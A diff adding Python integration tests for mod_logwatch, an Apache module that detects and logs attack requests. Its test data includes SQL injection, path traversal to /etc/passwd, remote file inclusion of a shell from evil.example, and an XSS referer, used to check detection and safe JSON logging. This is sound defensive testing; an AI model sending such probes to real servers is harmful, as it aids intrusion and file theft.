@@ -1,0 +1,300 @@
+"""mod_logwatch in a real httpd (issue 2), under the event and prefork MPMs.
+
+Run:  LW_BUILDDIR=/path/to/build LW_SRCDIR=/path/to/src \
+      /usr/bin/python3 -m pytest -q test/integration
+"""
+import concurrent.futures
+import os
+import re
+import time
+
+import pytest
+
+import lwhttpd
+
+# The seed's nine requests, in file order, and the category each must get.
+SEED_CATEGORIES = ["sqli"] + ["lfi"] * 5 + ["rfi"] * 3
+
+CANARY_ID = 4000000001
+
+
+def canary_rules(word):
+    return f"""# integration-test rule: flags ?q={word}
+rule {CANARY_ID}
+  category  probe
+  severity  high
+  msg       integration-test canary
+  target    args
+  literal   {word}
+  pattern   {word}
+  match     /canary?q={word}
+  nomatch   /canary?q=hello
+"""
+
+
+def by_request(recs):
+    return {"%s %s %s" % (r.get("method"), r.get("uri"), r.get("protocol")): r
+            for r in recs}
+
+
+def access_lines(h, path=None):
+    with open(path or h.access_log, encoding="latin-1") as f:
+        return [l.rstrip("\n") for l in f]
+
+
+def test_seed_replay(httpd, seed):
+    statuses = httpd.replay_seed(seed)
+    assert statuses == [s["status"] for s in seed] == [500] * 9
+    recs = httpd.wait_records(len(seed))
+    time.sleep(0.3)                       # nothing more may come
+    recs = httpd.records()
+    assert len(recs) == len(seed), [r.get("uri") for r in recs]
+    got = by_request(recs)
+
+    # the access log's UNIQUE_ID for each request line
+    uid = {}
+    for line in access_lines(httpd):
+        m = re.search(r'"([^"]*)" \d{3} \S+ "[^"]*" "[^"]*" (\S+) "([^"]*)"$',
+                      line)
+        assert m, line
+        uid[m.group(1)] = (m.group(2), m.group(3))
+
+    for s, cat in zip(seed, SEED_CATEGORIES):
+        rec = got.get(s["request_line"])
+        assert rec is not None, "no record for " + s["request_line"]
+        lwhttpd.check_record(rec)
+        assert cat in rec["categories"], (s["request_line"], rec)
+        assert rec["client"] == s["client"]
+        assert rec["peer"] == "127.0.0.1"
+        assert rec["vhost"] == s["vhost"]
+        assert rec["port"] == httpd.port
+        assert rec["status"] == 500 and rec["verdict"] == "error"
+        assert rec["user_agent"] == s["user_agent"]
+        assert rec["severity"] in ("low", "medium", "high", "critical")
+        assert rec["score"] >= 3
+        assert all(r["category"] in rec["categories"] or r["category"] == "tool"
+                   for r in rec["rules"]), rec
+        # same request as the access log: same id, and the LOGWATCH note
+        # (%{LOGWATCH}n) names the record's categories
+        req_id, note = uid[s["request_line"]]
+        assert rec["request_id"] == req_id
+        assert set(note.split()) == set(rec["categories"])
+
+    # CustomLog ... env=LOGWATCH logged exactly the nine
+    flagged = access_lines(httpd, httpd.path("logs", "flagged.log"))
+    assert len(flagged) == len(seed)
+    assert sum("sqli" in r["categories"] for r in recs) >= 1
+
+
+def _send_benign(h, lines, agents, workers=8):
+    def one(i):
+        return h.get(lines[i].split()[1], user_agent=agents[i % len(agents)],
+                     protocol=lines[i].split()[2], method=lines[i].split()[0])
+    with concurrent.futures.ThreadPoolExecutor(workers) as ex:
+        return list(ex.map(one, range(len(lines))))
+
+
+def test_benign_gives_no_record(httpd, seed):
+    lines = lwhttpd.benign_request_lines(1000)
+    assert len(lines) == 1000
+    agents = lwhttpd.user_agents()
+    statuses = _send_benign(httpd, lines, agents)
+    assert all(s is not None for s in statuses)
+    # a last, known attack: once its record is there, every earlier
+    # request has been logged too
+    httpd.replay_seed(seed[:1])
+    assert httpd.wait_for(lambda r: r["client"] == seed[0]["client"])
+    recs = [r for r in httpd.records() if r["client"] != seed[0]["client"]]
+    assert recs == [], "benign requests flagged:\n" + "\n".join(
+        "%s %s %s" % (r["uri"], r["categories"],
+                      [(x["id"], x.get("excerpt")) for x in r["rules"]])
+        for r in recs)
+    st = [l for l in access_lines(httpd, httpd.path("logs", "flagged.log"))]
+    assert len(st) == 1
+
+
+def test_exclude_in_location(httpd, seed):
+    loud = seed[3]["request_line"].split()[1]      # an lfi request
+    # learn what it triggers
+    assert httpd.get("/loud" + loud) == 500
+    first = httpd.wait_for(lambda r: r["uri"].startswith("/loud/"))
+    assert first is not None
+    cats = " ".join(first["categories"])
+    ids = " ".join(str(r["id"]) for r in first["rules"])
+    httpd.extra = f"""
+<Location /bycat>
+    LogWatchExclude {cats}
+</Location>
+<Location /byid>
+    LogWatchExclude {ids}
+</Location>
+<Location /off>
+    LogWatch Off
+</Location>
+"""
+    httpd.write_conf()
+    httpd.graceful()
+    for prefix in ("/bycat", "/byid", "/off", "/loud2"):
+        assert httpd.get(prefix + loud) == 500
+    assert httpd.wait_for(lambda r: r["uri"].startswith("/loud2/"))
+    time.sleep(0.3)
+    uris = [r["uri"] for r in httpd.records()]
+    assert not [u for u in uris if u.startswith(("/bycat", "/byid", "/off"))]
+    assert len(uris) == 2
+    # the exclusion holds only where it is configured: in a vhost, same
+    flagged = access_lines(httpd, httpd.path("logs", "flagged.log"))
+    assert len(flagged) == 2
+
+
+BAD_RULES = {
+    # name: (file text, the line the error must name)
+    "bad_category": ("""# broken on purpose
+rule 4000000002
+  category  nosuchcategory
+  severity  high
+  msg       broken
+  target    args
+  literal   abc
+  pattern   abc
+  match     /x?q=abc
+  nomatch   /x?q=def
+""", [3]),
+    "bad_pattern": ("""# broken on purpose
+
+rule 4000000003
+  category  sqli
+  severity  high
+  msg       broken
+  target    args
+  literal   abc
+  pattern   abc(unclosed
+  match     /x?q=abc
+  nomatch   /x?q=def
+""", [9, 3]),
+    "fails_own_example": ("""rule 4000000004
+  category  sqli
+  severity  high
+  msg       broken
+  target    args
+  literal   abc
+  pattern   abc
+  match     /x?q=abc
+  nomatch   /x?q=xabcx
+""", [9, 1]),
+}
+
+
+@pytest.mark.parametrize("case", sorted(BAD_RULES))
+def test_bad_rules_fail_configtest(httpd_factory, case):
+    text, lines = BAD_RULES[case]
+    h = httpd_factory(start=False)
+    bad = h.path("conf", "broken.rules")
+    with open(bad, "w") as f:
+        f.write(text)
+    ok = h.configtest()
+    assert ok.returncode == 0, ok.stderr
+    h.signatures.append(bad)
+    h.write_conf()
+    p = h.configtest()
+    out = p.stdout + p.stderr
+    assert p.returncode != 0, out
+    m = re.search(re.escape(bad) + r":(\d+):\s*\S", out)
+    assert m, "error does not name %s:LINE: %s" % (bad, out)
+    assert int(m.group(1)) in lines, out
+    # and httpd refuses to start with it
+    s = h.run("-k", "start")
+    time.sleep(0.2)
+    assert s.returncode != 0 or h.pid() is None or not h._port_open()
+
+
+def test_piped_destination(httpd_factory, seed):
+    h = httpd_factory(log='|/bin/cat >> "@ROOT@/logs/piped.log"')
+    piped = h.path("logs", "piped.log")
+    h.replay_seed(seed)
+    recs = h.wait_records(len(seed), path=piped)
+    assert len(recs) == len(seed)
+    for r in recs:
+        lwhttpd.check_record(r)
+    assert sorted(r["client"] for r in recs) == sorted(s["client"] for s in seed)
+    assert all(len(l) + 1 <= 4096 for l in h.lines(piped))
+    assert not os.path.exists(h.attack_log)
+
+
+def test_graceful_restart_reloads(httpd_factory, seed):
+    h = httpd_factory(start=False)
+    local = h.path("conf", "local.rules")
+    with open(local, "w") as f:
+        f.write(canary_rules("lwcanaryone"))
+    h.signatures.append(local)
+    h.write_conf()
+    h.start()
+    gen = h.generation()
+    assert gen >= 1
+    h.get("/canary?q=lwcanaryone")
+    assert h.wait_for(lambda r: r["uri"] == "/canary?q=lwcanaryone"
+                      and any(x["id"] == CANARY_ID for x in r["rules"]))
+
+    with open(local, "w") as f:
+        f.write(canary_rules("lwcanarytwo"))
+    h.graceful()
+    assert h.generation() == gen + 1
+    # new children serve with the new set
+    rec = None
+    for _ in range(20):
+        h.get("/canary?q=lwcanarytwo")
+        rec = h.wait_for(lambda r: r["uri"] == "/canary?q=lwcanarytwo",
+                         timeout=0.5)
+        if rec:
+            break
+    assert rec and any(x["id"] == CANARY_ID for x in rec["rules"])
+    n = len(h.records())
+    h.get("/canary?q=lwcanaryone")
+    h.replay_seed(seed)
+    recs = h.wait_records(n + len(seed))
+    time.sleep(0.3)
+    recs = h.records()
+    assert len(recs) == n + len(seed), [r["uri"] for r in recs[n:]]
+    assert not [r for r in recs[n:] if r["uri"] == "/canary?q=lwcanaryone"]
+
+    # several more restarts in a row, still recording
+    for _ in range(3):
+        h.graceful()
+    h.replay_seed(seed[:1])
+    assert len(h.wait_records(len(recs) + 1)) == len(recs) + 1
+
+
+def test_records_valid_json(httpd, seed):
+    hostile = [
+        # bytes outside ASCII, quotes and backslashes in the target
+        b'GET /a.php?id=1\'+UNION+SELECT+"\\x",\xff\xfe\x80 HTTP/1.1',
+        # a target close to the request-line limit
+        b"GET /long.php?q=" + b"A" * 6000
+        + b"&id=1+UNION+SELECT+1,2,3-- HTTP/1.1",
+        # HTTP/0.9: no protocol
+        b"GET /x.php?f=../../../../../../etc/passwd",
+        # core answers 400 (path above the root): half-processed request
+        b"GET /../../../../../../etc/passwd HTTP/1.1",
+        # lowercase method, odd spacing
+        b"get  /x.php?page=http://evil.example/shell.txt?  HTTP/1.0",
+    ]
+    for line in hostile:
+        h = [("Host", "localhost"),
+             ("User-Agent", 'sqlmap/1.5 "quoted" \\back\\ \xe9t\xe9'),
+             ("Referer", "http://x/?q=<script>alert(1)</script>")]
+        httpd.request(line, h)
+    httpd.replay_seed(seed)
+    recs = httpd.wait_for(lambda r: r["client"] == seed[-1]["client"])
+    time.sleep(0.5)
+    lines = httpd.lines()
+    recs = httpd.records()                  # json.loads every line
+    assert len(recs) >= len(seed) + 2, [r["uri"][:60] for r in recs]
+    for line, rec in zip(lines, recs):
+        assert len(line) + 1 <= 4096
+        assert line.decode("ascii")         # ASCII only
+        lwhttpd.check_record(rec)
+    uris = [r["uri"] for r in recs]
+    # the non-ASCII bytes are written as \xHH text, as the access log does
+    assert any("\\xff\\xfe\\x80" in u for u in uris), uris
+    # the long target was cut with a marker, never the structure
+    longs = [r for r in recs if r["uri"].startswith("/long.php")]
+    assert longs and all(len(r["uri"]) < 4096 for r in longs)
